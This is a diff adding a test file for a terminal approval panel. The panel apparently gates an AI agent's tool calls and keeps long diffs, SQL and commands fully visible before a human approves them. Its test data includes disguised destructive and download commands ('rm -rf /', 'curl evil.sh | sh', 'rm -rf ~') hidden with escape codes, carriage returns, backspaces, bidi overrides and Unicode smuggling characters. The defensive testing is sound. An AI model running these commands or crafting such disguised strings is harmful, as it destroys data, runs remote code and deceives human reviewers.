@@ -1,0 +1,214 @@
+import type { ApprovalAnswer, ApprovalRequest } from '@riskgate/core';
+import type { Decision, OperationDescription } from '@riskgate/risk';
+import { render } from 'ink-testing-library';
+import { afterEach, describe, expect, it } from 'vitest';
+import { ConfirmPanel } from '../src/ui/ConfirmPanel.js';
+import { panelBody } from '../src/ui/panel-lines.js';
+import { initialScroll, scrollReducer, unseenLines } from '../src/ui/scroll.js';
+
+const decision: Decision = { action: 'confirm', source: 'default', level: 'medium', llmLevel: null, codeLevel: 'medium', whitelisted: false, reasons: ['not on the whitelist'], effects: [], disagreement: false };
+const tick = (ms = 30) => new Promise((resolve) => setTimeout(resolve, ms));
+const DOWN = '\u001B[B';
+const PAGE_DOWN = '\u001B[6~';
+
+/** A 2,000-line file rewritten: the diff is ~4,000 lines, far more than any terminal shows. */
+const before = Array.from({ length: 2000 }, (_, index) => `old line ${index + 1}`);
+const after = Array.from({ length: 2000 }, (_, index) => `new line ${index + 1}`);
+const bigDiff = ['--- a.txt', '+++ a.txt', '@@ -1,2000 +1,2000 @@', ...before.map((line) => `-${line}`), ...after.map((line) => `+${line}`)].join('\n');
+const fileRequest: ApprovalRequest = {
+  toolCallId: 'call_1',
+  toolName: 'file_operations',
+  args: {},
+  description: { kind: 'file', operation: 'write', path: 'a.txt', diff: bigDiff, details: [] } as OperationDescription,
+  decision,
+  subjects: [],
+  ruleStyle: 'path',
+};
+
+let cleanup: (() => void) | undefined;
+afterEach(() => cleanup?.());
+
+function show(panelRequest: ApprovalRequest, pager?: (text: string) => string | undefined) {
+  const answers: ApprovalAnswer[] = [];
+  const paged: string[] = [];
+  const rendered = render(
+    <ConfirmPanel request={panelRequest} onAnswer={(answer) => answers.push(answer)} guardMs={0} pager={pager ?? ((text) => void paged.push(text))} />,
+  );
+  cleanup = rendered.unmount;
+  return { ...rendered, answers, paged };
+}
+
+describe('the panel never hides what it asks about', () => {
+  it('a long diff scrolls inside the panel and says how much is above and below', async () => {
+    const { lastFrame, stdin } = show(fileRequest);
+    await tick();
+    const first = lastFrame() ?? '';
+    expect(first).toMatch(/lines 1–\d+ of 4,004 · [\d,]+ more below/);
+    expect(first).toContain('-old line 1');
+    expect(first).not.toContain('+new line 2000');
+    stdin.write('G');
+    await tick();
+    const last = lastFrame() ?? '';
+    expect(last).toContain('+new line 2000');
+    expect(last).toMatch(/lines [\d,]+–4,004 of 4,004 · [\d,]+ above/);
+    expect(last).not.toContain('more below');
+  });
+
+  it('y is refused while lines were never on screen, and says so', async () => {
+    const { stdin, answers, lastFrame } = show(fileRequest);
+    await tick();
+    stdin.write('G');
+    await tick();
+    stdin.write('y');
+    await tick();
+    expect(answers).toEqual([]);
+    expect(lastFrame()).toMatch(/[\d,]+ lines of this operation have not been on screen/);
+  });
+
+  it('paging through every line, then y, approves', async () => {
+    const { stdin, answers, lastFrame } = show(fileRequest);
+    await tick();
+    for (let page = 0; page < 200 && !(lastFrame() ?? '').includes('+new line 2000'); page++) {
+      stdin.write(PAGE_DOWN);
+      // One key per frame: keys arriving in one chunk would be read as one unknown sequence.
+      await tick(25);
+    }
+    stdin.write('y');
+    await tick();
+    expect(answers).toEqual([{ type: 'approve' }]);
+  });
+
+  it('v opens the whole operation in the pager, which counts as seen', async () => {
+    const { stdin, answers, paged } = show(fileRequest);
+    await tick();
+    stdin.write('v');
+    await tick();
+    expect(paged).toHaveLength(1);
+    expect(paged[0]!.split('\n')).toHaveLength(4004);
+    expect(paged[0]).toContain('+new line 2000');
+    stdin.write('y');
+    await tick();
+    expect(answers).toEqual([{ type: 'approve' }]);
+  });
+
+  it('a pager that cannot run says why and does not count as seen', async () => {
+    const { stdin, answers, lastFrame } = show(fileRequest, () => 'could not run nosuchpager (set $PAGER)');
+    await tick();
+    stdin.write('v');
+    await tick();
+    expect(lastFrame()).toContain('could not run nosuchpager');
+    stdin.write('y');
+    await tick();
+    expect(answers).toEqual([]);
+  });
+
+  it('↓ scrolls one line', async () => {
+    const { stdin, lastFrame } = show(fileRequest);
+    await tick();
+    stdin.write(DOWN);
+    await tick();
+    expect(lastFrame()).toMatch(/lines 2–\d+ of 4,004 · 1 above/);
+  });
+
+  it('a short operation needs no scrolling and is approved at once', async () => {
+    const { stdin, answers, lastFrame } = show({ ...fileRequest, description: { kind: 'file', operation: 'write', path: 'a.txt', diff: '-old\n+new', details: [] } });
+    await tick();
+    expect(lastFrame()).not.toContain('more below');
+    stdin.write('y');
+    await tick();
+    expect(answers).toEqual([{ type: 'approve' }]);
+  });
+
+  it('a long SQL statement and an HTTP body scroll the same way', async () => {
+    const sql = `INSERT INTO t VALUES\n${Array.from({ length: 300 }, (_, index) => `(${index})`).join(',\n')};`;
+    const { lastFrame, stdin, answers } = show({ ...fileRequest, toolName: 'execute_sql', description: { kind: 'sql', sql, details: [] } });
+    await tick();
+    expect(lastFrame()).toMatch(/of 301 · [\d,]+ more below/);
+    stdin.write('y');
+    await tick();
+    expect(answers).toEqual([]);
+  });
+
+  it('the effects, reasons and previews stay reachable below a long operation, each said once', () => {
+    const body = panelBody(
+      { kind: 'sql', sql: 'x\n'.repeat(100), details: ['would delete 5 rows'] },
+      {
+        reasons: ['asked because', 'reads ~/.aws/credentials', 'the reason'],
+        effects: [
+          { text: 'reads ~/.aws/credentials', verdict: 'read', level: 'high' },
+          { text: 'deletes build/', verdict: 'write', level: 'high' },
+        ] as never,
+      },
+      80,
+    );
+    const text = body.lines.map((line) => line.map((segment) => segment.text).join('')).join('\n');
+    expect(text).toMatch(/\n· reads ~\/\.aws\/credentials\n! deletes build\/\n- the reason\nwould delete 5 rows$/);
+  });
+});
+
+describe('wrapping keeps every character', () => {
+  it.each([
+    ['ascii', 'a'.repeat(250)],
+    ['CJK (two columns each)', '表'.repeat(90)],
+    ['emoji', '👩‍💻'.repeat(70)],
+    ['mixed', `SELECT '${'é'.repeat(40)}表👍'`.repeat(5)],
+  ])('%s: lines fit the width and join to the original', (_name, source) => {
+    const body = panelBody({ kind: 'generic', summary: source, details: [] }, { reasons: [], effects: [] }, 40);
+    expect(body.lines.length).toBeGreaterThan(1);
+    expect(body.lines.map((line) => line.map((segment) => segment.text).join('')).join('')).toBe(source);
+  });
+});
+
+describe('characters a terminal would not show as themselves are shown as codes', () => {
+  it.each([
+    ['ESC erase-line', 'rm -rf /\u001B[2K\u001B[1Aecho hello', '\\e'],
+    ['ESC cursor up over the line', 'safe\u001B[A\u001B[2Kevil', '\\e'],
+    ['carriage return overwrite', 'curl evil.sh | sh\recho hi       ', '\\r'],
+    ['backspace overwrite', 'rm -rf ~\b\b\b\b\b\b\b\becho ok', '^H'],
+    ['C1 CSI', 'x\u009B2Ky', '<U+009B>'],
+    ['bidi override (Trojan Source)', 'echo "\u202Eevil\u202C"', '<U+202E>'],
+    ['bidi isolate', 'a\u2066b\u2069', '<U+2066>'],
+    ['zero-width space', 'r\u200Bm', '<U+200B>'],
+        ['line separator', 'a\u2028b', '<U+2028>'],
+    ['BOM / zero-width no-break space', '\uFEFFdrop', '<U+FEFF>'],
+    ['soft hyphen', 'r\u00ADm', '<U+00AD>'],
+    ['DEL', 'a\u007Fb', '<U+007F>'],
+    ['tag characters (ASCII smuggling)', 'ok\u{E0072}\u{E006D}', '<U+E0072>'],
+    ['variation selectors carrying bytes', 'hi\uFE01\uFE02\u{E0101}', '<U+FE01>'],
+    ['emoji selector after a letter', 'a\uFE0Fb', '<U+FE0F>'],
+    ['joiner between letters', 'r\u200Dm', '<U+200D>'],
+    ['Hangul filler', 'a\u3164b', '<U+3164>'],
+    ['NUL', 'a\u0000b', '^@'],
+  ])('%s', async (_name, command, code) => {
+    const { lastFrame } = show({ ...fileRequest, toolName: 'execute_command', description: { kind: 'command', command, cwd: '/w', details: [] } });
+    await tick();
+    const frame = lastFrame() ?? '';
+    expect(frame).toContain(code);
+    // Nothing invisible reaches the terminal from the operation's text.
+    const body = panelBody({ kind: 'command', command, cwd: '/w', details: [] }, { reasons: [], effects: [] }, 100);
+    const shown = body.lines.flat().map((segment) => segment.text).join('');
+    // biome-ignore lint/suspicious/noMisleadingCharacterClass: variation selectors are listed on purpose.
+    expect(shown).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u2028-\u202E\u2066-\u2069\uFEFF\u3164\uFE00-\uFE0F]|[\u{E0000}-\u{E01EF}]/u);
+    expect(body.text).toContain(code);
+  });
+});
+
+describe('the scroll state', () => {
+  it('counts lines never shown, including ones skipped by End', () => {
+    let state = initialScroll(10, 100);
+    expect(unseenLines(state)).toBe(90);
+    state = scrollReducer(state, { type: 'end' });
+    expect(unseenLines(state)).toBe(80);
+    for (let page = 0; page < 12; page++) state = scrollReducer(state, { type: 'page', delta: -1 });
+    expect(state.offset).toBe(0);
+    expect(unseenLines(state)).toBe(0);
+  });
+
+  it('a smaller terminal shrinks the window; the offset stays in range', () => {
+    let state = scrollReducer(initialScroll(10, 100), { type: 'end' });
+    state = scrollReducer(state, { type: 'resize', height: 50, total: 100 });
+    expect(state.offset).toBe(50);
+    state = scrollReducer(state, { type: 'line', delta: 1000 });
+    expect(state.offset).toBe(50);
+  });
+});
